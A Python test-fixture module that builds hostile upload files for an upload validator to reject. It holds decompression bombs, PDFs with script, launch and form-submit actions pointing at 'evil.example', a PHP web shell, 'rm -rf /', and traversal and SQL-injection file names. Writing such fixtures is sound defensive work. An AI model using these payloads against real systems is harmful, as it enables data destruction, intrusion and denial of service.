"""Files that somebody might bring to hurt: built here, so that none lies in the repository."""

import gzip
import struct
import warnings
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from PIL import Image
from pillow_heif import from_pillow

CANARY = "CANARY-7f3a"
GPS_CANARY = 33.987654
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + "$H+H*"


# --- honest files -----------------------------------------------------------------------------------------------------


def a_picture(size: tuple[int, int] = (64, 48), colour: str = "tomato") -> Image.Image:
    return Image.new("RGB", size, colour)


def jpeg(size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    out = BytesIO()
    a_picture(size).save(out, "JPEG", **options)
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: Any) -> bytes:
    out = BytesIO()
    a_picture(size).convert(mode).save(out, "PNG", **options)
    return out.getvalue()


def exif() -> Image.Exif:
    """Camera, owner and place, all with the canary."""
    tags = Image.Exif()
    tags[0x010F], tags[0x0110], tags[0x013B], tags[0x9C9C] = CANARY, CANARY, CANARY, CANARY.encode("utf-16-le")
    place = tags.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (33.0, 59.0, 15.5544), "W", (118.0, 17.0, 20.25)
    tags[0x8825] = place
    tags.get_ifd(0x8769)[0x9286] = CANARY.encode()
    return tags


def jpeg_with_place() -> bytes:
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><place>{CANARY}</place></x:xmpmeta>".encode()
    return jpeg(exif=exif(), comment=CANARY.encode(), xmp=xmp)


def heic_with_place() -> bytes:
    out = BytesIO()
    from_pillow(a_picture((128, 96))).save(out, exif=exif().tobytes(), xmp=CANARY.encode())
    return out.getvalue()


def png_with_place() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Location", CANARY)
    info.add_itxt("XML:com.adobe.xmp", CANARY, zip=True)
    return png(pnginfo=info, exif=exif())


def pdf(change: Any = None, pages: int = 1) -> bytes:
    """A PDF of blank pages; `change(pdf)` makes it hostile."""
    with pikepdf.Pdf.new() as paper:
        for _ in range(pages):
            paper.add_blank_page(page_size=(300, 200))
        if change:
            change(paper)
        out = BytesIO()
        with warnings.catch_warnings(action="ignore"):
            paper.save(out)
        return out.getvalue()


def mp3() -> bytes:
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    return b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + frame * 3


def m4a() -> bytes:
    def box(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body) + 8) + name + body

    return box(b"ftyp", b"M4A \0\0\0\0M4A isom") + box(b"moov", box(b"trak", b"....soun....")) + box(b"mdat", bytes(64))


# --- packed, office, programs -----------------------------------------------------------------------------------------


def zipped(**files: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, content in (files or {"x": b"x"}).items():
            archive.writestr(name, content)
    return out.getvalue()


def office() -> bytes:
    return zipped(**{"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"macro"})


def open_document() -> bytes:
    return zipped(mimetype=b"application/vnd.oasis.opendocument.text")


# --- pictures that bite -----------------------------------------------------------------------------------------------


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_claiming(width: int, height: int, rows: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")


def png_bomb() -> bytes:
    """A megapixel claim with 200 MB of rows behind it."""
    squeezed = zlib.compress(bytes(200_000_000), 9)
    head = struct.pack(">IIBBBBB", 49_000, 1_000, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", squeezed) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    body = b"Comment\0\0" + zlib.compress(bytes(150_000_000), 9)
    good = png()
    return good[:33] + _chunk(b"zTXt", body) + good[33:]


def jpeg_claiming_65500() -> bytes:
    good = bytearray(jpeg())
    at = good.index(b"\xff\xc0")
    good[at + 5 : at + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(good)


# --- PDFs that bite ---------------------------------------------------------------------------------------------------


def _script(paper: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert('{CANARY}')")


def opens_with_script(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = _script(paper)


def script_in_names(paper: pikepdf.Pdf) -> None:
    names = pikepdf.Array([pikepdf.String("x"), _script(paper)])
    paper.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def script_on_page(paper: pikepdf.Pdf) -> None:
    paper.pages[0].obj.AA = pikepdf.Dictionary(O=_script(paper))


def _annotation(paper: pikepdf.Pdf, **more: Any) -> None:
    paper.pages[0].obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=pikepdf.Array([0, 0, 300, 200]), **more)]
    )


def script_on_link(paper: pikepdf.Pdf) -> None:
    _annotation(paper, Subtype=pikepdf.Name.Link, A=_script(paper))


def launches_program(paper: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(f"cmd.exe {CANARY}"))
    _annotation(paper, Subtype=pikepdf.Name.Link, A=action)


def calls_home(paper: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(f"http://evil.example/{CANARY}"))
    _annotation(paper, Subtype=pikepdf.Name.Link, A=action)


def sends_form(paper: pikepdf.Pdf) -> None:
    target = pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String(f"http://evil.example/{CANARY}"))
    paper.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pikepdf.String(CANARY))
    _annotation(
        paper,
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Btn,
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=target),
    )


def carries_program(paper: pikepdf.Pdf) -> None:
    paper.attachments["payload.exe"] = b"MZ" + CANARY.encode()


def attached_to_page(paper: pikepdf.Pdf) -> None:
    stream = paper.make_stream(b"MZ" + CANARY.encode())
    stream.Type = pikepdf.Name.EmbeddedFile
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=stream))
    _annotation(paper, Subtype=pikepdf.Name.FileAttachment, FS=paper.make_indirect(spec))


def associated_file(paper: pikepdf.Pdf) -> None:
    stream = paper.make_stream(b"MZ" + CANARY.encode())
    spec = paper.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=stream)))
    paper.pages[0].obj.AF = pikepdf.Array([spec])
    paper.Root.AF = pikepdf.Array([spec])


def movie(paper: pikepdf.Pdf) -> None:
    content = pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String(CANARY)])))
    _annotation(paper, Subtype=pikepdf.Name.RichMedia, RichMediaContent=content)


def says_who_made_it(paper: pikepdf.Pdf) -> None:
    paper.docinfo["/Author"] = CANARY
    paper.Root.Metadata = paper.make_stream(f"<x>{CANARY}</x>".encode())
    paper.pages[0].obj.Metadata = paper.make_stream(f"<x>{CANARY}</x>".encode())
    paper.pages[0].obj.PieceInfo = pikepdf.Dictionary(X=pikepdf.String(CANARY))


def reads_outside(paper: pikepdf.Pdf) -> None:
    outside = paper.make_stream(b"")
    outside.Type, outside.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    outside.BBox = pikepdf.Array([0, 0, 10, 10])
    outside.F = pikepdf.String(f"//evil.example/{CANARY}")
    outside.Ref = pikepdf.Dictionary(F=pikepdf.String(CANARY), Page=0)
    paper.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=outside))


def script_hidden_in_resources(paper: pikepdf.Pdf) -> None:
    paper.pages[0].obj.Resources = pikepdf.Dictionary(
        Properties=pikepdf.Dictionary(X=pikepdf.Dictionary(Deep=pikepdf.Array([_script(paper)])))
    )


def postscript(paper: pikepdf.Pdf) -> None:
    stream = paper.make_stream(f"({CANARY}) run".encode())
    stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.PS
    paper.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=stream))


def photo_with_place(paper: pikepdf.Pdf) -> None:
    stream = paper.make_stream(b"")
    stream.write(jpeg_with_place(), filter=pikepdf.Name.DCTDecode)
    stream.Type, stream.Subtype, stream.ColorSpace = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DeviceRGB
    stream.Width, stream.Height, stream.BitsPerComponent = 64, 48, 8
    page = paper.pages[0].obj
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=stream))
    page.Contents = paper.make_stream(b"q 300 0 0 200 0 0 cm /X Do Q")


BITING_PDFS = (
    opens_with_script,
    script_in_names,
    script_on_page,
    script_on_link,
    launches_program,
    calls_home,
    sends_form,
    carries_program,
    attached_to_page,
    associated_file,
    movie,
    says_who_made_it,
    reads_outside,
    script_hidden_in_resources,
    postscript,
    photo_with_place,
)


def locked_pdf() -> bytes:
    with pikepdf.open(BytesIO(pdf())) as paper:
        out = BytesIO()
        paper.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
        return out.getvalue()


def object_stream_bomb() -> bytes:
    """A PDF whose object stream swells to 900 MB."""
    packer = zlib.compressobj(9)
    squeezed = packer.compress(b"1 0 ")
    for _ in range(900):
        squeezed += packer.compress(b" " * 1_000_000)
    squeezed += packer.flush()
    body = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(squeezed)).encode()
    return body + b">>\nstream\n" + squeezed + b"\nendstream\nendobj\ntrailer<</Root 2 0 R>>\n%%EOF"


def deep_pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def refused() -> list[tuple[str, bytes, str]]:
    """Name, content, and why it must be refused."""
    good = jpeg()
    return [
        ("empty.pdf", b"", "empty"),
        ("spaces.txt", b"   \n\n", "empty"),
        ("eicar.txt", EICAR.encode(), "virus"),
        ("setup.exe", b"MZ\x90\x00" + bytes(100), "program"),
        ("photo.jpg", b"MZ\x90\x00" + bytes(100), "program"),
        ("photo.png", b"\x7fELF" + bytes(100), "program"),
        ("notes.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
        ("letter.docx", office(), "office"),
        ("letter.odt", open_document(), "office"),
        ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "office"),
        ("letter.rtf", b"{\\rtf1 hello}", "office"),
        ("macro.pdf", office(), "office"),
        ("papers.zip", zipped(), "archive"),
        ("papers.jpg", zipped(), "archive"),
        ("bomb.gz", gzip.compress(bytes(10_000_000)), "archive"),
        ("papers.rar", b"Rar!\x1a\x07\x00" + bytes(50), "archive"),
        ("papers.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), "archive"),
        ("papers.tar", b"a" + bytes(256) + b"ustar" + bytes(300), "archive"),
        ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unknown"),
        ("picture.png", b"<svg onload='alert(1)'/>", "unknown"),
        ("page.jpg", b"<!doctype html><script>alert(1)</script>", "unknown"),
        ("page.txt", b"\xef\xbb\xbf  <html><script>alert(1)</script>", "unknown"),
        ("page.txt", b"<?php system($_GET['x']); ?>", "unknown"),
        ("font.pdf", b"%!PS-Adobe-3.0 (x) run", "unknown"),
        ("random.pdf", bytes(range(256)) * 20, "unknown"),
        ("late.pdf", b"x" * 20 + pdf(), "mismatch"),
        ("photo.pdf", good, "mismatch"),
        ("photo.jpg", png(), "mismatch"),
        ("scan.jpg", pdf(), "mismatch"),
        ("photo.jpg.exe", good, "mismatch"),
        ("photo", good, "mismatch"),
        (".jpg", mp3(), "mismatch"),
        ("photo.jpg", good + zipped(run=b"MZ"), "two_in_one"),
        ("photo.png", png() + zipped(), "two_in_one"),
        ("scan.pdf", pdf() + zipped(), "two_in_one"),
        ("photo.jpg", good[:20] + b"%PDF-1.7" + good[20:], "two_in_one"),
        ("cut.jpg", jpeg((400, 300))[:900], "unreadable"),
        ("cut.png", png((400, 300))[:80], "unreadable"),
        ("cut.heic", heic_with_place()[:200], "unreadable"),
        ("cut.pdf", pdf()[:60], "unreadable"),
        ("hollow.pdf", b"%PDF-1.7\n%%EOF", "unreadable"),
        ("deep.pdf", deep_pdf(), "unreadable"),
        ("locked.pdf", locked_pdf(), "locked"),
        ("long.pdf", pdf(pages=301), "too_many_pages"),
        ("flood.png", png_claiming(60_000, 60_000), "too_many_pixels"),
        ("wide.png", png_claiming(2_000_000, 1), "too_many_pixels"),
        ("flood.jpg", jpeg_claiming_65500(), "too_many_pixels"),
        ("half.mp3", b"ID3\x04\x00\x00\x00\x00\x7f\x7f" + bytes(50), "unreadable"),
        ("fake.mp3", b"\xff\xfb\x90\x00" + b"\xcc" * 600, "unreadable"),
        ("film.m4a", m4a().replace(b"soun", b"vide"), "unreadable"),
        ("cut.m4a", m4a()[:-9], "unreadable"),
        ("nul.txt", b"hello\x00world", "unknown"),
        ("latin.txt", "señor".encode("latin-1"), "unreadable"),
        ("huge.txt", b"a" * (25 * 1024 * 1024 + 1), "too_large"),
    ]


def bombs() -> list[tuple[str, bytes]]:
    """Small files that swell when they are opened."""
    return [
        ("bomb.png", png_bomb()),
        ("words.png", png_text_bomb()),
        ("swell.pdf", object_stream_bomb()),
    ]


NAMES = [
    "../../etc/passwd.jpg",
    "..\\..\\windows\\system32\\x.jpg",
    "a\x00b.jpg",
    "\u202egpj.exe.jpg",
    "x" * 100_000 + ".jpg",
    "<script>alert(1)</script>.jpg",
    "'; drop table core_upload; --.jpg",
    "CON.jpg",
    " .jpg",
    "\r\nSet-Cookie: x=1.jpg",
]
